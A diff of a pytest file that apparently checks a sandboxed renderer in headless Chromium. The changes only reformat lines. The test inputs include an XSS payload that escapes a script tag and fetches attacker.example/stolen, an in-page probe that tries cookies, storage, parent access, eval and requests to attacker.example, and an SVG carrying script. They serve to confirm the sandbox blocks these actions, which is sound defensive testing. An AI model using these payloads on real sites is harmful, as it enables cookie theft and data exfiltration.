@@ -33,11 +33,15 @@ FLAGS = [
     "--remote-debugging-port=0",
     "--remote-allow-origins=*",
 ]
-HOSTILE = "</script><img src=x onerror=window.attacked=1;document.title=`attacked`;fetch(`http://attacker.example/stolen`)>"
+HOSTILE = (
+    "</script><img src=x "
+    "onerror=window.attacked=1;document.title=`attacked`;fetch(`http://attacker.example/stolen`)>"
+)
 
 
 class Browser:
-    "A Chromium spoken to by its debugging protocol; every network request goes through a proxy that logs and refuses it."
+    """A Chromium spoken to by its debugging protocol; every network request goes through a proxy that logs
+    and refuses it."""
 
     def __init__(self, folder):
         websocket = pytest.importorskip("websocket", reason="websocket-client is not installed")
@@ -242,11 +246,20 @@ def test_sandbox_refuses_storage_the_parent_and_every_way_out(browser, site):
       if (window.top === window) return "page";
       const tried = {};
       for (const [name, act] of Object.entries({
-        storage: () => localStorage.length, cookie: () => document.cookie, parent: () => parent.document.title,
+        storage: () => localStorage.length, cookie: () => document.cookie,
+        parent: () => parent.document.title,
         fetch: () => fetch("http://attacker.example/fetch"), eval: () => eval("1"),
-        script: () => new Promise((yes, no) => { const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s); window.ran ? yes() : no("blocked"); }),
-        handler: () => new Promise((yes, no) => { const i = document.createElement("div"); i.innerHTML = "<img src=x onerror='window.ran=1'>"; document.body.append(i); setTimeout(() => window.ran ? yes() : no("blocked"), 200); }),
-        image: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://attacker.example/pixel"; }),
+        script: () => new Promise((yes, no) => {
+          const s = document.createElement("script"); s.text = "window.ran = 1"; document.body.append(s);
+          window.ran ? yes() : no("blocked");
+        }),
+        handler: () => new Promise((yes, no) => {
+          const i = document.createElement("div"); i.innerHTML = "<img src=x onerror='window.ran=1'>";
+          document.body.append(i); setTimeout(() => window.ran ? yes() : no("blocked"), 200);
+        }),
+        image: () => new Promise((yes, no) => {
+          const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://attacker.example/pixel";
+        }),
       })) { try { await act(); tried[name] = "worked"; } catch { tried[name] = "refused"; } }
       setTimeout(() => { location.href = "http://attacker.example/navigate"; }, 50);
       return JSON.stringify(tried);
@@ -291,7 +304,10 @@ def test_page_fits_its_window_runs_nothing_and_asks_for_nothing(browser, tmp_pat
             "output_type": "display_data",
             "metadata": {},
             "data": {
-                "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='2000' height='10'><script>top.attacked=1</script></svg>"
+                "image/svg+xml": (
+                    "<svg xmlns='http://www.w3.org/2000/svg' width='2000' "
+                    "height='10'><script>top.attacked=1</script></svg>"
+                )
             },
         },
         {"output_type": "stream", "name": "stdout", "text": "x" * 2000},
